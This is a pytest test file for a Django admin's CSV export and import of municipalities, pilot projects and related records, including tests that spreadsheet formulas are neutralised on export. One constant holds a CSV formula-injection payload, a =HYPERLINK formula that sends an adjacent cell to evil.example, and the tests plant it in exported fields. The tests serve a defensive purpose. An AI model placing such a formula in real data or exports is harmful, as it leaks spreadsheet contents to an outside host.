"""CSV export of the admin changelists and CSV import of municipalities and pilot projects with a dry-run
preview and row-level errors."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from marketplace import csvsafe
from marketplace.choices import EditorialStatus
from municipalities.models import Municipality
from pilots.models import PilotProject
from tests.factories import (
    CategoryFactory,
    MunicipalityFactory,
    PilotProjectFactory,
    ReferenceFactory,
    SolutionFactory,
    UserFactory,
    VendorFactory,
)

# What an attacker would put in a name: a click in the spreadsheet sends the neighbouring cell away.
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Details")'


@pytest.fixture(autouse=True)
def _admin_settings(settings, tmp_path):
    settings.LANGUAGE_CODE = "en"
    settings.ADMIN_REQUIRE_OTP = False
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def editor(client):
    user = UserFactory(username="editor", is_staff=True)
    user.groups.add(Group.objects.get(name="Redaktion"))
    client.force_login(user)
    return user


def _rows(response) -> list[dict]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _upload(name: str, text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(), content_type="text/csv")


@pytest.mark.django_db
def test_solution_changelist_exports_the_filtered_rows_as_csv(client, editor):
    SolutionFactory(title="Parkraum live")
    SolutionFactory(title="Entwurf", status=EditorialStatus.DRAFT, published_at=None)
    response = client.get(reverse("admin:solutions_solution_export"), {"status__exact": "published"})
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response)
    assert [row["title"] for row in rows] == ["Parkraum live"]
    assert "search_vector" not in rows[0]


@pytest.mark.django_db
def test_municipality_import_previews_then_saves_and_reports_row_errors(client, editor):
    MunicipalityFactory(name="Altstadt", ags="09162000", slug="altstadt", population=1000)
    url = reverse("admin:municipalities_municipality_import")
    text = (
        "ags,name,slug,kind,population\n"
        "09162000,München,muenchen,kreisfreie_stadt,1500000\n"
        "05315000,Köln,koeln,kreisfreie_stadt,1080000\n"
    )
    preview = client.post(url, {"import_file": _upload("m.csv", text), "format": "0"})
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["update", "new"]
    # The dry run changed nothing.
    assert Municipality.objects.get(ags="09162000").name == "Altstadt"
    assert not Municipality.objects.filter(ags="05315000").exists()
    confirm = preview.context["confirm_form"].initial
    done = client.post(reverse("admin:municipalities_municipality_process_import"), confirm)
    assert done.status_code == 302
    assert Municipality.objects.get(ags="09162000").name == "München"
    cologne = Municipality.objects.get(ags="05315000")
    assert (cologne.state, cologne.population) == ("05", 1080000)


@pytest.mark.django_db
def test_municipality_import_shows_row_level_errors_and_saves_nothing(client, editor):
    text = (
        "ags,name,slug,kind,population\n"
        "05315000,Köln,koeln,kreisfreie_stadt,viele\n"
        "05111000,Düsseldorf,duesseldorf,metropole,620000\n"
    )
    preview = client.post(
        reverse("admin:municipalities_municipality_import"),
        {"import_file": _upload("m.csv", text), "format": "0"},
    )
    result = preview.context["result"]
    assert result.has_validation_errors()
    assert [(row.number, sorted(row.field_specific_errors)) for row in result.invalid_rows] == [
        (1, ["population"]),
        (2, ["kind"]),
    ]
    assert result.invalid_rows[0].field_specific_errors["population"] == ["Enter a whole number."]
    assert "Enter a whole number." in preview.content.decode()
    assert "confirm_form" not in preview.context or preview.context["confirm_form"] is None
    assert not Municipality.objects.filter(ags="05315000").exists()


@pytest.mark.django_db
def test_pilot_import_links_municipalities_by_ags_and_creates_drafts(client, editor):
    MunicipalityFactory(name="Ulm", ags="08421000", slug="ulm")
    MunicipalityFactory(name="Neu-Ulm", ags="09775147", slug="neu-ulm")
    CategoryFactory(slug="mobilitaet")
    text = (
        "slug,title,lead_municipality_ags,partner_ags,categories,funding,phase,summary\n"
        "zukunftsstadt,Zukunftsstadt,08421000,09775147,mobilitaet,own,implementation,Ein Projekt.\n"
    )
    preview = client.post(
        reverse("admin:pilots_pilotproject_import"), {"import_file": _upload("p.csv", text), "format": "0"}
    )
    assert not preview.context["result"].has_validation_errors()
    client.post(reverse("admin:pilots_pilotproject_process_import"), preview.context["confirm_form"].initial)
    pilot = PilotProject.objects.get(slug="zukunftsstadt")
    assert pilot.lead_municipality.name == "Ulm"
    assert [m.name for m in pilot.partners.all()] == ["Neu-Ulm"]
    assert pilot.status == EditorialStatus.DRAFT


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 123", "'+49 30 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Musterstadt = Vorbild", "Musterstadt = Vorbild"),
        ("", ""),
        ("'=1+1", "'=1+1"),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise_quotes_what_a_spreadsheet_would_run(value, expected):
    assert csvsafe.neutralise(value) == expected


@pytest.mark.parametrize("value", ["=1+1", "+49 30 123", "-2", "@A1", "\t=1", "\r=1", "Bonn", "'Bonn", ""])
def test_restore_undoes_neutralise(value):
    assert csvsafe.restore(csvsafe.neutralise(value)) == value


def _hostile_municipality():
    return MunicipalityFactory(name=HYPERLINK, contact_phone="+49 30 123")


def _hostile_pilot():
    return PilotProjectFactory(title=HYPERLINK, summary="@SUM(A1:A9)")


def _hostile_solution():
    return SolutionFactory(title=HYPERLINK, summary="-2+3")


def _hostile_vendor():
    return VendorFactory(name=HYPERLINK, phone="+49 30 123")


def _hostile_reference():
    return ReferenceFactory(statement=HYPERLINK)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("export", "make", "cells"),
    [
        (
            "municipalities_municipality",
            _hostile_municipality,
            {"name": HYPERLINK, "contact_phone": "+49 30 123"},
        ),
        ("pilots_pilotproject", _hostile_pilot, {"title": HYPERLINK, "summary": "@SUM(A1:A9)"}),
        ("solutions_solution", _hostile_solution, {"title": HYPERLINK, "summary": "-2+3"}),
        ("solutions_vendor", _hostile_vendor, {"name": HYPERLINK, "phone": "+49 30 123"}),
        ("pilots_reference", _hostile_reference, {"statement": HYPERLINK}),
    ],
    ids=["municipalities", "pilots", "solutions", "vendors", "references"],
)
def test_every_csv_export_neutralises_formulas(client, editor, export, make, cells):
    make()
    rows = _rows(client.get(reverse(f"admin:{export}_export")))
    # The factories create related rows too (a solution's vendor, say); the hostile one carries HYPERLINK.
    [row] = [row for row in rows if HYPERLINK in row.values() or f"'{HYPERLINK}" in row.values()]
    assert {column: row[column] for column in cells} == {
        column: f"'{value}" for column, value in cells.items()
    }


@pytest.mark.django_db
def test_exported_municipalities_import_back_unchanged(client, editor):
    MunicipalityFactory(name=HYPERLINK, ags="09162000", slug="muenchen", contact_phone="+49 89 1")
    export = client.get(reverse("admin:municipalities_municipality_export"))
    content = b"".join(export.streaming_content) if export.streaming else export.content
    assert f"'{HYPERLINK}".replace('"', '""').encode() in content
    preview = client.post(
        reverse("admin:municipalities_municipality_import"),
        {"import_file": SimpleUploadedFile("m.csv", content, content_type="text/csv"), "format": "0"},
    )
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["skip"]
    municipality = Municipality.objects.get(ags="09162000")
    assert (municipality.name, municipality.contact_phone) == (HYPERLINK, "+49 89 1")
